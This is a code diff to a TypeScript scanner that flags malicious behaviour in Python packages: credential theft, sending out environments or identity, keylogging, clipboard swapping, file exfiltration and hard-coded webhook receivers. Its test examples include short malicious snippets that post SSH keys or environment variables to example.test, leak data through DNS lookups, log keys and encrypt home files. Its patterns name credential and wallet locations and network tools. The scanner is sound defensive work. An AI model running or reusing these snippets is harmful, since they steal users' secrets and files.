@@ -1,20 +1,49 @@
-import type { Literal, PythonFacts } from '../python-facts.ts'
-import type { Hit, PythonRule } from '../rule.ts'
+import { argumentOf, argumentsOf, type CodeFacts, isProgramStart } from '../code-facts.ts'
+import type { Call } from '../flow/evaluate.ts'
+import { hostOf } from '../flow/hosts.ts'
+import { names } from '../flow/names.ts'
+import { isSecretPlace } from '../flow/python-library.ts'
+import { has, type Value } from '../flow/values.ts'
+import type { CodeRule, Hit } from '../rule.ts'
 
-function* literalHits(facts: PythonFacts, patterns: readonly [RegExp, string][]): Generator<Hit> {
-  for (const { text, line } of facts.literals) {
+/** Texts that are no sentence and match one of the patterns. */
+export function* textHits(
+  facts: CodeFacts,
+  patterns: readonly (readonly [RegExp, string])[],
+): Generator<Hit> {
+  for (const { text, line } of facts.texts) {
     // A message to the user names a path as well; a path alone has no sentence around it.
-    if (isProse({ text, line })) continue
+    if (text.length > 300 || text.split(/\s+/).length > 8) continue
     const found = patterns.find(([pattern]) => pattern.test(text))
     if (found) yield { line, message: found[1] }
   }
 }
 
-function isProse({ text }: Literal): boolean {
-  return text.length > 300 || text.split(/\s+/).length > 8
+/** Only looks whether something is there, or shows its name. */
+const harmlessUse = names(
+  /^(print|\S*\b(exists|is_file|isfile|is_dir|isdir|startswith|endswith|split\w*|replace|format|info|warning|warn|error|debug|exception|log|append|join|joinpath|expanduser|expandvars|normpath|abspath|dirname|basename|Path|PurePath|mkdir|makedirs|get|getenv|setdefault|update|add|match|search|compile|index|find|count|lower|strip|chmod|write|write_text)|str|len|repr|isinstance|\w*(Error|Exception|Warning))$/,
+)
+
+/** Sends something to another machine. */
+const sends = names(
+  /^((requests|httpx|curl_cffi\.requests|niquests)(\.\w+\(\))?\.(post|put|patch|get|request|head|delete|options|send|stream)|(\S*\.)?urlopen|(\S*\.)?urlretrieve|urllib3\.\S*(request|urlopen)|http\.client\.HTTPS?Connection\(\)\.(request|send|putrequest|putheader)|aiohttp\.(ClientSession\(\)\.\w+|request)|socket\.(socket|create_connection)\(\)\.(send|sendall|sendto|sendfile)|ssl\.\S*wrap_socket\(\)\.(send|sendall|write)|socket\.(gethostbyname\w*|getaddrinfo)|dns\.resolver\.\S*(resolve|query)|smtplib\.SMTP\S*\(\)\.(sendmail|send_message)|ftplib\.FTP\S*\(\)\.stor\w+|websockets?\.\S*send|asyncio\.open_connection\(\)\S*\.write|paramiko\.\S+\.(put|putfo|exec_command)|boto3\.\S+\.(put_object|upload_file\w*)|telebot\.\S+\.send_\w+|telegram\.\S+\.send_\w+|discord\S*\.(send|execute)|dhooks\.\S+|discord_webhook\.\S+|pycurl\.\S+\.setopt|webbrowser\.open\w*|xmlrpc\.client\.ServerProxy\(\)\.\w+|posthog\.capture)$/,
+)
+
+function isSending(call: Call): boolean {
+  return (
+    sends.test(call.name) ||
+    (isProgramStart(call) &&
+      /\b(curl|wget|nc|nslookup|dig|ping|scp|rsync|ftp)\b/.test(
+        argumentOf(call, 0, 'args')?.texts[0] ?? argumentOf(call, 0, 'args')?.items?.[0]?.texts[0] ?? '',
+      ))
+  )
 }
 
-export const credentials: PythonRule = {
+function sentValues(call: Call): Value[] {
+  return [call.receiver, ...argumentsOf(call)]
+}
+
+export const credentials: CodeRule = {
   of: 'python',
   id: 'credential-access',
   severity: 'high',
@@ -23,127 +52,92 @@ export const credentials: PythonRule = {
   examples: {
     matching: [
       'p = os.path.join(local, "Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data")',
-      'key = open(os.path.expanduser("~/.ssh/id_rsa")).read()',
+      'import os\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()',
       'w = home + "/.bitcoin/wallet.dat"',
       'x = "discord\\\\Local Storage\\\\leveldb"',
       'import browser_cookie3\ncj = browser_cookie3.chrome()',
+      'from pathlib import Path\nfor name in [".aws/credentials", ".netrc"]:\n    data = (Path.home() / name).read_text()',
+      'import os, shutil\nshutil.copy(os.path.join(os.environ["HOME"], ".ss" + "h", "id_ed25519"), "/tmp/x")',
     ],
     harmless: [
       'print("Put your public key into ~/.ssh/id_rsa.pub so that the server lets you in and works")',
       'title = "Login Data Form"',
       'options = ["local storage", "cloud"]',
+      'import os\nif os.path.exists(os.path.expanduser("~/.netrc")): pass',
+      'f = tmp_path / ".netrc"\nf.write_text("machine example.test")',
     ],
   },
   *find(facts) {
-    yield* literalHits(facts, [
-      [
-        /(User Data|Default|Profile \d)[\\/]+(Login Data|Cookies|Web Data|Network[\\/]+Cookies)/i,
-        'Names a browser’s stored passwords or cookies.',
-      ],
-      [
-        /^(Login Data|Local State|cookies\.sqlite|key[34]\.db|logins\.json|Web Data)$/,
-        'Names a browser’s stored passwords or cookies.',
-      ],
-      [
-        /(^|[\\/~])\.ssh[\\/]+(id_\w+|authorized_keys|config)$|(^|[\\/])id_(rsa|ed25519|ecdsa)$/,
-        'Names the user’s SSH keys.',
-      ],
-      [
-        /(^|[\\/])\.(aws[\\/]credentials|git-credentials|netrc|npmrc|pypirc|kube[\\/]config|docker[\\/]config\.json)$/,
-        'Names stored credentials.',
-      ],
-      [
-        /(^|[\\/])wallet\.dat$|(Exodus|Electrum|Ethereum|Atomic)[\\/]+(wallets|keystore|Local Storage|exodus\.wallet)/i,
-        'Names a wallet.',
-      ],
-      [
-        /nkbihfbeogaeaoehlefnkodbefgpgknn|ibnejdfjmmkpcnlpebklmnkoeoihofec|bfnaelmomeimhlpmgjnjophhpkkoljpa/,
-        'Names a wallet in the browser.',
-      ],
-      [/(discord\w*|Telegram Desktop)[\\/]+(Local Storage|tdata)/i, 'Names a chat program’s stored session.'],
-      [/[\\/]etc[\\/]shadow$/, 'Names the system’s stored passwords.'],
-    ])
-    for (const { name, line } of facts.calls) {
-      if (/^browser_cookie3\.\w+$/.test(name))
-        yield { line, message: 'Reads the cookies of the user’s browser.' }
-      if (/(^|\.)CryptUnprotectData$/.test(name))
-        yield { line, message: 'Decrypts what the user’s system keeps secret.' }
+    yield* textHits(facts, storedSecrets)
+    for (const call of facts.calls) {
+      if (/^browser_cookie3\.\w+$/.test(call.name))
+        yield { line: call.line, message: 'Reads the cookies of the user’s browser.' }
+      if (/(^|\.)CryptUnprotectData$|^keyring\.get_password$/.test(call.name))
+        yield {
+          line: call.line,
+          message: 'Decrypts what the user’s system keeps secret.',
+          ...(call.name.startsWith('keyring') ? { severity: 'medium' as const } : {}),
+        }
+      const place = secretPlaceOf(call)
+      if (place) yield { line: call.line, message: `Reads \`${place}\`, where credentials are kept.` }
     }
   },
 }
 
-export const persistence: PythonRule = {
-  of: 'python',
-  id: 'persistence',
-  severity: 'high',
-  why: 'Something that starts by itself stays on the machine after the pack is removed.',
-  fix: 'Remove it. A pack runs when the tool runs, and not otherwise.',
-  examples: {
-    matching: [
-      'p = appdata + "\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\a.bat"',
-      'f = open(os.path.expanduser("~/.bashrc"), "a")',
-      'import winreg\nwinreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run")',
-      'import os\nos.system("crontab /tmp/x")',
-      'import subprocess\nsubprocess.run(["schtasks", "/create", "/tn", "x"])',
-    ],
-    harmless: [
-      'print("Add this line to your ~/.bashrc and then start the tool once more please")',
-      'import subprocess\nsubprocess.run(["git", "status"])',
-      'name = "Startup settings"',
-    ],
-  },
-  find: (facts) =>
-    literalHits(facts, [
-      [/Start Menu[\\/]+Programs[\\/]+Startup/i, 'Names the folder of programs that start with the system.'],
-      [/CurrentVersion[\\/]+Run(Once)?\b/i, 'Names the registry key of programs that start with the system.'],
-      [/(^|[\\/~])\.(bashrc|zshrc|bash_profile|zprofile|profile)$/, 'Names a file that every shell runs.'],
-      [
-        /[\\/]etc[\\/](cron\w*|rc\.local|systemd[\\/]system|profile\.d)\b|Library[\\/]LaunchAgents|\.config[\\/](autostart|systemd[\\/]user)/,
-        'Names a place for programs that start by themselves.',
-      ],
-      [
-        /^\s*(crontab\b|schtasks(\.exe)?\b|launchctl\s+load|systemctl\s+enable)/i,
-        'Sets up something that starts by itself.',
-      ],
-      [
-        /^([A-Za-z]:)?[\\/].*[\\/]etc[\\/]hosts$|^[\\/]etc[\\/]hosts$/,
-        'Names the file that decides where addresses lead.',
-      ],
-    ]),
+const storedSecrets: [RegExp, string][] = [
+  [
+    /(User Data|Default|Profile \d)[\\/]+(Login Data|Cookies|Web Data|Network[\\/]+Cookies)/i,
+    'Names a browser’s stored passwords or cookies.',
+  ],
+  [
+    /^[\\/]?(Login Data|Local State|cookies\.sqlite|key[34]\.db|logins\.json|Web Data)$/,
+    'Names a browser’s stored passwords or cookies.',
+  ],
+  [
+    /(^|[\\/])wallet\.dat$|(Exodus|Electrum|Ethereum|Atomic)[\\/]+(wallets|keystore|Local Storage|exodus\.wallet)/i,
+    'Names a wallet.',
+  ],
+  [
+    /nkbihfbeogaeaoehlefnkodbefgpgknn|ibnejdfjmmkpcnlpebklmnkoeoihofec|bfnaelmomeimhlpmgjnjophhpkkoljpa|hnfanknocfeofbddgcijnmhnfnkdnaad|fhbohimaelbohpjbbldcngcnapndodjp/,
+    'Names a wallet in the browser.',
+  ],
+  [
+    /(discord\w*|Telegram Desktop|Signal)[\\/]+(Local Storage|tdata|sql)/i,
+    'Names a chat program’s stored session.',
+  ],
+  [/^[\\/]etc[\\/]shadow$/, 'Names the system’s stored passwords.'],
+]
+
+function secretPlaceOf(call: Call): string | undefined {
+  if (harmlessUse.test(call.name) && !/^(open|io\.open)$/.test(call.name)) return undefined
+  const mode = argumentOf(call, 1, 'mode')
+  if (/(^|\.)open$/.test(call.name) && /^[wax]/.test(mode?.texts[0] ?? '')) return undefined
+  const isReading = /\.(read_text|read_bytes|open|read|iterdir|glob|rglob)$/.test(call.name)
+  const values = isReading ? [call.receiver, ...call.args] : call.args.slice(0, 2)
+  // The place is an argument of its own; a command or an address that names one is another matter.
+  return values
+    .flatMap((value) => value.texts)
+    .find((text) => isSecretPlace(text) && !/\s-|^https?:/.test(text))
+    ?.replaceAll('\u0000', '…')
 }
 
-export const exfiltration: PythonRule = {
+export const secretsSent: CodeRule = {
   of: 'python',
-  id: 'hard-coded-receiver',
-  severity: 'high',
-  why: 'A chat address built into a pack is the usual way to send a user’s data to a stranger.',
-  fix: 'Let the user enter the address.',
+  id: 'credentials-sent',
+  severity: 'critical',
+  why: 'Whoever gets the user’s credentials can act as the user.',
+  fix: 'Remove it.',
   examples: {
     matching: [
-      'u = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcd"',
-      'u = "https://api.telegram.org/bot1234567890:AAabcdefghijklmnopqrstuvwxyz123456789/sendDocument"',
+      'import os, requests\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://example.test", data=key)',
+      'import os, urllib.request\ndef read(p):\n    with open(p) as f:\n        return f.read()\nurllib.request.urlopen("https://example.test", data=read(os.path.expanduser("~/.aws/credentials")).encode())',
     ],
-    harmless: [
-      'u = f"https://discord.com/api/webhooks/{user_id}/{token}"',
-      'u = "https://discord.com/invite/abc"',
-      'u = f"https://api.telegram.org/bot{token}/sendMessage"',
-    ],
+    harmless: ['import requests\nrequests.post("https://example.test", data=open("image.png", "rb").read())'],
   },
-  find: (facts) =>
-    literalHits(facts, [
-      [/discord(app)?\.com\/api\/webhooks\/\d{15,}\/[\w-]{50,}/, 'Sends to a chat channel that is built in.'],
-      [/api\.telegram\.org\/bot\d{8,}:[\w-]{30,}/, 'Sends to a chat bot that is built in.'],
-      [
-        /https?:\/\/([\w-]+\.)?(webhook\.site|requestbin\.\w+|pipedream\.net|oastify\.com|burpcollaborator\.net|ngrok\.io)\b/,
-        'Sends to a service that collects requests.',
-      ],
-    ]),
+  find: (facts) => sentHits(facts, ['secret'], 'Sends stored credentials away.'),
 }
 
-const isSending = (name: string) =>
-  /^(requests|httpx)\.(post|put|get|request)$|(^|\.)urlopen$|\.sendall$/.test(name)
-
-export const environmentSent: PythonRule = {
+export const environmentSent: CodeRule = {
   of: 'python',
   id: 'environment-sent',
   severity: 'high',
@@ -153,28 +147,204 @@ export const environmentSent: PythonRule = {
     matching: [
       'import os, requests\nrequests.post(u, json=dict(os.environ))',
       'import os, json, requests\ndef f():\n    data = json.dumps(dict(os.environ))\n    requests.post(u, data=data)',
+      'import os, requests\nenv = {k: v for k, v in os.environ.items()}\nrequests.get("https://example.test", params=env)',
+      'import os, requests\nrequests.post("https://example.test/c", data=os.environ["AWS_SECRET_ACCESS_KEY"])',
+      'import os, socket\nsocket.gethostbyname(str(os.environ).encode().hex() + ".example.test")',
     ],
     harmless: [
       'import os, requests\nrequests.post(u, headers={"a": os.environ["API_KEY"]})',
       'import os, subprocess\nenv = os.environ.copy()\nsubprocess.run(["git"], env=env)',
+      'import os, requests\nrequests.get("https://api.github.com/x", headers={"authorization": os.environ["GITHUB_TOKEN"]})',
+      'import os, requests\nrequests.get(u, headers={"authorization": f"Bearer {os.environ.get(\'HF_TOKEN\')}"})',
     ],
   },
   *find(facts) {
-    const isEnvironment =
-      /\b(dict\(\s*os\.environ\s*\)|os\.environ\.(copy|items)\(\)|\{\*\*os\.environ\}|str\(os\.environ\))/
-    if (!isEnvironment.test(facts.text)) return
+    yield* sentHits(facts, ['environment'], 'Sends the whole environment away.')
     for (const call of facts.calls) {
-      if (!isSending(call.name)) continue
-      const parts = [...call.args, ...call.keywords.values()]
-      if (
-        parts.some(
-          (part) => isEnvironment.test(facts.textOf(part)) || facts.comesFromText(part, isEnvironment),
-        )
-      ) {
-        yield { line: call.line, message: 'Sends the whole environment away.' }
-      }
+      const body = argumentsOf(call)
+        .slice(1)
+        .concat(call.args[0] ?? [])
+      const isInBody = [...call.keywords].some(
+        ([name, value]) => /^(data|json|params|content|body|files)$/.test(name) && has(value, 'credential'),
+      )
+      const address = argumentOf(call, 0, 'url')
+      const isInAddress = has(address, 'credential')
+      const host = hostOf(address?.texts[0] ?? '')
+      if (isSending(call) && body.length > 0 && (isInBody || isInAddress) && !isServiceOfCredentials(host))
+        yield { line: call.line, message: 'Sends a credential of the environment away.' }
     }
   },
 }
 
-export const reachRules = [credentials, persistence, exfiltration, environmentSent]
+/** Services that take such a credential, and computed addresses: nobody can say that they do not. */
+function isServiceOfCredentials(host: string): boolean {
+  return (
+    host === '' ||
+    /(^|\.)(github\.com|huggingface\.co|hf\.co|hf-mirror\.com|openai\.com|anthropic\.com|civitai\.com|wandb\.ai|amazonaws\.com|slack\.com|discord\.com|googleapis\.com|azure\.com|localhost|127\.0\.0\.1)$/.test(
+      host,
+    )
+  )
+}
+
+export const identitySent: CodeRule = {
+  of: 'python',
+  id: 'identity-sent',
+  severity: 'high',
+  why: 'Who uses which machine is what an attacker collects first.',
+  fix: 'Remove it, or send a random number that the user agreed to.',
+  examples: {
+    matching: [
+      'import getpass, socket, requests\nrequests.get("https://example.test", params={"u": getpass.getuser(), "h": socket.gethostname()})',
+      'import os, socket\nname = os.getlogin()\nsocket.gethostbyname(name + ".example.test")',
+      'import subprocess, requests\nrequests.post(u, data=subprocess.check_output(["whoami"]))',
+    ],
+    harmless: [
+      'import platform, requests\nrequests.get(u, headers={"user-agent": platform.system()})',
+      'import socket\nprint(socket.gethostname())',
+    ],
+  },
+  find: (facts) => sentHits(facts, ['identity'], 'Sends away who uses which machine.'),
+}
+
+export const spying: CodeRule = {
+  of: 'python',
+  id: 'spying',
+  severity: 'high',
+  why: 'What a user types, copies and sees is nobody else’s business.',
+  fix: 'Remove it.',
+  examples: {
+    matching: [
+      'import requests\nfrom PIL import ImageGrab\nshot = ImageGrab.grab()\nrequests.post(u, files={"f": shot.tobytes()})',
+      'import pyperclip, requests\nrequests.post(u, data=pyperclip.paste())',
+      'from pynput import keyboard\ndef on_press(key):\n    log.write(str(key))\nkeyboard.Listener(on_press=on_press).start()',
+      'import pyperclip, re\ntext = pyperclip.paste()\nif re.match("^0x[a-f0-9]{40}$", text):\n    pyperclip.copy("0x" + "1" * 40)',
+    ],
+    harmless: [
+      'from PIL import ImageGrab\nimage = ImageGrab.grab()',
+      'import pyperclip\npyperclip.copy(text)',
+      'import pyperclip\ntext = pyperclip.paste()',
+    ],
+  },
+  *find(facts) {
+    yield* sentHits(facts, ['spying'], 'Sends away what the user types, copies or sees.')
+    for (const call of facts.calls) {
+      if (
+        /^(pynput\.)?keyboard\.Listener$|^keyboard\.(on_press|on_release|hook|record)$|SetWindowsHookEx\w*$|GetAsyncKeyState$/.test(
+          call.name,
+        )
+      )
+        yield { line: call.line, message: 'Listens to every key that the user presses.' }
+      const copies = /^pyperclip\.copy$|SetClipboard\w*$/.test(call.name)
+      if (
+        copies &&
+        facts.calls.some(({ name }) => /^pyperclip\.paste$|GetClipboardData$/.test(name)) &&
+        /0x|bc1|\[13\]|bitcoin|ethereum|wallet/i.test(facts.text)
+      )
+        yield { line: call.line, message: 'Replaces what the user copied.' }
+    }
+  },
+}
+
+export const filesSent: CodeRule = {
+  of: 'python',
+  id: 'home-files-sent',
+  severity: 'high',
+  why: 'The user’s own folders hold what the user did not give to the pack.',
+  fix: 'Let the user pick the files.',
+  examples: {
+    matching: [
+      'import os, requests\nfor root, _, names in os.walk(os.path.expanduser("~")):\n    for name in names:\n        requests.post("https://example.test", files={"f": open(os.path.join(root, name), "rb")})',
+      'from pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(key)\nfor p in Path.home().rglob("*.docx"):\n    p.write_bytes(f.encrypt(p.read_bytes()))',
+    ],
+    harmless: [
+      'import os\nfor root, _, names in os.walk("models"):\n    print(names)',
+      'import os, requests\nrequests.post("https://example.test", files={"f": open(path, "rb")})',
+    ],
+  },
+  *find(facts) {
+    yield* sentHits(facts, ['home'], 'Sends away files of the user’s own folders.')
+    for (const call of facts.calls) {
+      const isEncrypting =
+        /\.(write|write_bytes)$/.test(call.name) &&
+        call.args.some((arg) => has(arg, 'home') && has(arg, 'file'))
+      if (isEncrypting && /encrypt|AES|Fernet|ChaCha/.test(facts.text))
+        yield { line: call.line, message: 'Overwrites files of the user’s own folders with encrypted ones.' }
+    }
+  },
+}
+
+function* sentHits(facts: CodeFacts, origin: Parameters<typeof has>[1][], message: string): Generator<Hit> {
+  for (const call of facts.calls) {
+    if (!isSending(call) || asksForItself(call)) continue
+    if (sentValues(call).some((value) => has(value, ...origin))) yield { line: call.line, message }
+  }
+}
+
+/** A machine that asks for its own address sends nothing. */
+function asksForItself({ name, args }: Call): boolean {
+  return /gethostby|getaddrinfo/.test(name) && !args[0]?.texts.some((text) => text.includes('.'))
+}
+
+export const exfiltration: CodeRule = {
+  of: 'python',
+  id: 'hard-coded-receiver',
+  severity: 'high',
+  why: 'A chat address built into a pack is the usual way to send a user’s data to a stranger.',
+  fix: 'Let the user enter the address.',
+  examples: {
+    matching: [
+      'u = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcd"',
+      'u = "https://api.telegram.org/bot1234567890:AAabcdefghijklmnopqrstuvwxyz123456789/sendDocument"',
+      'import requests\nid = "123456789012345678"\nrequests.post("https://discord.com/api/webhooks/" + id + "/abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcd")',
+      'import requests, base64\nrequests.post(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLnRlc3QvYw==").decode(), data=x)',
+    ],
+    harmless: [
+      'u = f"https://discord.com/api/webhooks/{user_id}/{token}"',
+      'u = "https://discord.com/invite/abc"',
+      'u = f"https://api.telegram.org/bot{token}/sendMessage"',
+    ],
+  },
+  *find(facts) {
+    yield* textHits(facts, receivers)
+    for (const call of facts.calls) {
+      if (!isSending(call)) continue
+      const address = argumentOf(call, 0, 'url')
+      const isPost = !/\.(get|urlopen|urlretrieve|gethostbyname)$/.test(call.name)
+      const where = call.args
+        .slice(0, 2)
+        .flatMap((value) => value.texts)
+        .map((text) => receivers.find(([pattern]) => pattern.test(text))?.[1])
+        .find((found) => found !== undefined)
+      if (where) yield { line: call.line, message: where }
+      else if (
+        has(address, 'decoded') &&
+        (address?.texts.some((text) => hostOf(text) !== '') || isPost) &&
+        !has(address, 'network')
+      )
+        yield { line: call.line, message: 'Contacts an address that is hidden by an encoding.' }
+    }
+  },
+}
+
+const receivers: [RegExp, string][] = [
+  [
+    /discord(app)?\.com\/api\/(v\d+\/)?webhooks\/\d{15,}\/[\w-]{50,}/,
+    'Sends to a chat channel that is built in.',
+  ],
+  [/api\.telegram\.org\/bot\d{8,}:[\w-]{30,}/, 'Sends to a chat bot that is built in.'],
+  [/hooks\.slack\.com\/services\/T\w+\/B\w+\/\w+/, 'Sends to a chat channel that is built in.'],
+  [
+    /https?:\/\/([\w-]+\.)*(webhook\.site|requestbin\.\w+|pipedream\.net|oastify\.com|burpcollaborator\.net|interact\.sh|oast\.\w+|beeceptor\.com|requestcatcher\.com|transfer\.sh|file\.io|gofile\.io|anonfiles\.com|ipinfo\.io\/json)\b(?!.*docs)/,
+    'Uses a service that collects requests or anonymous files.',
+  ],
+]
+
+export const reachRules = [
+  credentials,
+  secretsSent,
+  environmentSent,
+  identitySent,
+  spying,
+  filesSent,
+  exfiltration,
+]
